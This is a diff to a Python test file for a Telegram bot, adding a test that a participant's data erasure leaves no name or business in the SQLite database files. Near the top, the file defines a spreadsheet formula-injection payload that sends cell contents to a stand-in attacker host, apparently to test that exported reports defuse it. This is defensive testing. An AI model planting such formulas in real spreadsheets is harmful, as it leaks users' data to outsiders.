@@ -5,21 +5,29 @@ from __future__ import annotations
 
 import io
 import logging
+from dataclasses import replace
 from datetime import datetime
+from pathlib import Path
 
 import openpyxl
 import pytest
+from sqlalchemy import text
+from sqlalchemy.engine import make_url
 from sqlalchemy.exc import IntegrityError
 
 from bot.db import SessionFactory, create_engine, create_session_factory
 from bot.documents.activity_report import activity_report_xlsx
 from bot.models import SurveyResponse
 from bot.services.activity import activity_report_view
+from bot.settings import Settings
 from tests.after_factories import finished_training
 from tests.conftest import JAKARTA
 from tests.factories import make_participant
+from tests.fake_telegram import FakeTelegram
+from tests.harness import BotHarness, FakeClock
 
 PRINTED = datetime(2026, 12, 1, 9, 0, tzinfo=JAKARTA)
+NAME, BUSINESS = "Zulaikha Prameswari", "Kedai Zulaikha Jaya"
 FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'
 
 
@@ -65,3 +73,28 @@ async def test_a_failed_write_logs_no_personal_value(
     # (PostgreSQL's own DETAIL names the duplicate key, the Telegram id; the values are gone.)
     for value in ("Ratna", "Warung"):
         assert value not in caplog.text
+
+
+async def test_an_erased_name_is_gone_from_the_sqlite_files(
+    sqlite_url: str, settings: Settings, tg: FakeTelegram, clock: FakeClock
+) -> None:
+    engine = create_engine(sqlite_url)
+    sessions = create_session_factory(engine)
+    bot = BotHarness(replace(settings, database_url=sqlite_url), sessions, tg, clock)
+    await bot.start()
+    try:
+        async with sessions() as session:
+            await make_participant(session, 431, full_name=NAME, business_name=BUSINESS)
+        user = bot.user(431)
+        [ask] = await bot.send(user, "/hapusdata")
+        await bot.press(user, ask, "Ya, hapus")
+        assert "sudah dihapus" in ask.text
+        database = Path(make_url(sqlite_url).database or "")
+        for path in (database, database.with_name(database.name + "-wal")):
+            held = path.read_bytes() if path.exists() else b""
+            assert NAME.encode() not in held and BUSINESS.encode() not in held, path.name
+        async with engine.connect() as connection:  # freed space is zeroed on every connection
+            assert await connection.scalar(text("PRAGMA secure_delete")) == 1
+    finally:
+        await bot.stop()
+        await engine.dispose()
